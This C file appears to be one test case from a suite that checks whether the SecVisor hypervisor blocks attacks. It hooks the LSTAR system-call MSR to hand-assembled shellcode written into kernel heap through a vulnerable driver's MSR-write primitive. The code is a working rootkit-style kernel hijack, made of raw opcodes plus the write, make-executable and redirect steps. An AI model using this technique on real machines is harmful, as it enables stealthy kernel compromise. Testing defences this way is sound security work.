// Row 8. The system-call entry (LSTAR) hooked to code in kernel heap.
// Source: LSTAR hooks: the MSR way of rootkits.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>

// What the hook does: puts LSTAR back, so that it runs once, and returns 0x1337.
static void hook(u8 *to, u64 before)
{
	// mov rdx, rcx; push rdx is no option: the stack is the user's.
	static const u8 template[] = {
		0x49, 0x89, 0xc8, // mov r8, rcx
		0xb9, 0x82, 0x00, 0x00, 0xc0, // mov ecx, LSTAR
		0xb8, 0, 0, 0, 0, // mov eax, low half of what it was
		0xba, 0, 0, 0, 0, // mov edx, high half
		0x0f, 0x30, // wrmsr
		0x4c, 0x89, 0xc1, // mov rcx, r8
		0xb8, 0x37, 0x13, 0, 0, // mov eax, 0x1337
		0x48, 0x0f, 0x07, // sysretq
	};

	memcpy(to, template, sizeof(template));
	memcpy(to + 9, &before, 4);
	memcpy(to + 14, (u8 *)&before + 4, 4);
}

ATTACK("lstar-heap")
{
	u64 before = operate(VULNERABLE_RDMSR, MSR_LSTAR, 0, 0), page = kernel_page();
	u8 code[64] = { 0 };
	long result;

	hook(code, before);
	kwrite(page, code, sizeof(code));
	make_executable(page);
	prepare_entry();
	alone_with_msr(MSR_LSTAR);
	about_to("make a system call through LSTAR in kernel heap");
	unprotect();
	operate(VULNERABLE_WRMSR, MSR_LSTAR, page, 0);
	result = syscall_prepared(39);
	if (result == MARK)
		succeeded("every system call went to kernel heap, which returned %#x", MARK);
	failed("the system call returned %ld", result);
}
